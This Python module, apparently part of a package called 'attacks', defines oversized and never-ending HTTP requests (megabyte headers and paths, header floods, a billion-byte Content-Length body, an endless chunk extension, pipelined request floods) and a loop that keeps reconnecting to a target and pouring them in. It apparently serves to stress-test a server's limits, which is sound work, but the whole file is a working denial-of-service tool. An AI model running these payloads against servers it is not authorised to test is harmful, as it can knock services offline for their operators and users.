"""Requests whose headers are too long or too many, and bodies that never end."""

import time
from contextlib import suppress

from attacks.target import Report, Stopped, Target, connect, ending

MEGABYTE = 1 << 20
SECONDS = 5  # after all was sent
REQUEST = b"GET /health HTTP/1.1\r\nHost: x\r\n"
# What begins a request, and what is then sent without an end.
KINDS = {
    "long header": (REQUEST + b"X-Long: ", b"x" * MEGABYTE),
    "long name": (REQUEST, b"x" * MEGABYTE),
    "long path": (b"GET /", b"x" * MEGABYTE),
    "many headers": (REQUEST, b"a:\r\n" * (MEGABYTE // 4)),
    "endless body": (
        REQUEST + b"Content-Length: 1000000000\r\n\r\n",
        b"x" * MEGABYTE,
    ),
    "endless chunk extension": (
        REQUEST + b"Transfer-Encoding: chunked\r\n\r\n1;",
        b"x" * MEGABYTE,
    ),
    "many requests": (b"", (REQUEST + b"\r\n") * 10_000),
}


def pour(
    target: Target,
    kind: str,
    megabytes: int,
    stopped: Stopped,
    again: bool,
    report: Report | None = None,
) -> Report:
    """Send so many megabytes of one request; `again`: begin anew until stopped."""
    report = report or Report()
    first, more = KINDS[kind]
    while not stopped():
        try:
            connection = connect(target.port, target.address)
        except OSError:
            report.refused += 1
            time.sleep(0.01)
            continue
        with connection:
            report.connections += 1
            with suppress(OSError):
                connection.sendall(first)
                for _ in range(megabytes):
                    if stopped():
                        break
                    connection.sendall(more)
                    report.bytes += len(more)
            connection.settimeout(SECONDS)
            try:
                report.closed[ending(connection)] += 1
            except TimeoutError:
                report.closed["still open"] += 1
        if not again:
            break
    return report
